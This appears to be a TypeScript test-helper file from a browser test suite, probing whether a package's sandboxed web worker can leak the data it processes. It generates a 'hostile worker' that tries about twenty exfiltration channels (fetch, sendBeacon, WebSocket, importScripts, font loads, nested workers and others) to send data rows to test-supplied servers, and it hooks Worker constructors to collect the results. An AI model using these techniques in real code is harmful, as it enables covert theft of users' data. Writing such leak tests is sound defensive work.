import type { Tab } from './tab.js';

/** What the hostile worker had, and what became of each attempt to send it. */
export interface Report {
  rows: string;
  tried: Record<string, string>;
}

/**
 * A worker that tries everything it can to send its rows to its own server and to another one. It posts its report to the
 * page: first without attempts, which shows that it ran and had the rows, then with all. It is alone in its file, as
 * if all of the package's code in there were hostile.
 * @param own address below which its own server records requests
 */
export function hostileWorker(elsewhere: string, own: string): string {
  return `
    const targets = ${JSON.stringify([elsewhere, own])};
    const here = location.href;
    const code = (script) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
    const sent = (to, way, rows) => to + way + '?rows=' + encodeURIComponent(rows);
    const answered = (target, good) => new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve('went out'));
      target.addEventListener('error', () => reject(new Error('refused')));
    });
    const inOther = (address, options) => new Promise((resolve, reject) => {
      const worker = new Worker(address, options);
      worker.onmessage = resolve;
      worker.onerror = () => reject(new Error('refused'));
    });
    const firstRows = async ({ kind, blob }) => {
      if (kind !== 'slices') return (await blob.text()).slice(0, 40);
      postMessage({ call: 'slice', id: 'rows', args: [0, 40] });
      return new Promise((resolve) => {
        addEventListener('message', ({ data: { id, value } }) => {
          if (id === 'rows') resolve(new TextDecoder().decode(value));
        });
      });
    };
    const ways = {
      fetch: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', body: rows }),
      keepalive: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: rows }),
      xhr: (to, rows) => {
        const request = new XMLHttpRequest();
        const done = answered(request, 'load');
        request.open('POST', to);
        request.send(rows);
        return done;
      },
      'sync-xhr': (to, rows) => {
        const request = new XMLHttpRequest();
        request.open('POST', to, false);
        request.send(rows);
      },
      websocket: (to) => answered(new WebSocket(to.replace('http', 'ws')), 'open'),
      eventsource: (to) => answered(new EventSource(to), 'open'),
      beacon: (to, rows) => navigator.sendBeacon(to, rows),
      importscripts: (to) => importScripts(to),
      import: (to) => import(to),
      webtransport: (to) => new WebTransport(to.replace('http:', 'https:')).ready,
      cache: async (to) => (await caches.open('x')).add(new Request(to, { mode: 'no-cors' })),
      'service-worker': (to) => navigator.serviceWorker.register(to),
      notification: (to) => new Notification('x', { icon: to }),
      font: (to) => new FontFace('x', 'url(' + to + ')').load(),
      'worker-from-blob': (to) => inOther(code(
        'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
      'worker-from-data': (to) => inOther('data:text/javascript,' + encodeURIComponent(
        'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
      'worker-from-here': (to) => inOther(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
      'shared-worker': (to) => new SharedWorker(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
      // Last, as Firefox's worker sometimes stops here for good.
      'worker-from-there': (to) => inOther(to, { type: 'module' }),
    };
    const toSend = new URL(here).searchParams.get('send');
    if (toSend !== null) {
      // The same file as another worker: does its own address free it from the policy?
      fetch(toSend, { mode: 'no-cors' }).finally(() => self.postMessage?.(0));
    }
    addEventListener('message', async ({ data }) => {
      // As the package's worker does: rows come after that.
      if (data.call === 'core') postMessage({ id: data.id, value: null });
      if (data.call !== 'run') return;
      const rows = await firstRows(data.args[0].source);
      const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
      const tried = {};
      const outcome = { rows, tried };
      postMessage(outcome);
      const attempts = Object.entries(ways).flatMap((way) => targets.map((to) => [...way, to]));
      await Promise.all(attempts.map(async ([way, act, to]) => {
        const name = (to === targets[0] ? '' : 'own-') + way;
        try {
          const outcome = await Promise.race([act(sent(to, way, rows), rows), late]);
          tried[name] = outcome === 'no answer' ? outcome : 'went out';
        } catch (error) {
          tried[name] = String(error).slice(0, 80);
        }
      }));
      postMessage(outcome);
    });
  `;
}

/**
 * Collects the reports of hostile workers that the page starts from now on, also in frames. Reports are messages, which
 * every worker of a page gets a listener for.
 */
export async function collectReports(tab: Tab): Promise<void> {
  await tab.run(() => {
    const reports: unknown[] = [];
    Object.assign(globalThis, { reports });
    const hear = (scope: typeof globalThis): void => {
      const Original = scope.Worker;
      class Heard extends Original {
        constructor(script: string | URL, options?: WorkerOptions) {
          super(script, options);
          this.addEventListener('message', ({ data }: MessageEvent<object>) => {
            if ('tried' in data) reports.push(data);
          });
        }
      }
      scope.Worker = Heard;
    };
    hear(globalThis);
    new MutationObserver((records) => {
      for (const { addedNodes } of records) {
        for (const node of addedNodes) {
          if (node instanceof HTMLIFrameElement && node.contentWindow !== null) {
            const inside = node.contentWindow as unknown as typeof globalThis;
            hear(inside);
            // Firefox replaces the document of a new frame once.
            node.addEventListener('load', () => {
              if (inside.Worker.name !== 'Heard') hear(inside);
            });
          }
        }
      }
    }).observe(document, { childList: true, subtree: true });
  }, null);
}

/** The last report of a hostile worker that has got rows. */
export async function reportOf(tab: Tab): Promise<Report> {
  return tab.run(async () => {
    const { reports, looking } = globalThis as unknown as {
      reports: Report[];
      looking: { found<T>(look: () => T | undefined, what: string): Promise<T> };
    };
    const first = await looking.found(() => reports[0], 'the report of the hostile worker');
    // The worker waits 2 s for each attempt, all at once; one that stopped for good has made all of them.
    for (let left = 160; left > 0 && reports.length < 2; left--) {
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    return reports[1] ?? first;
  }, null);
}
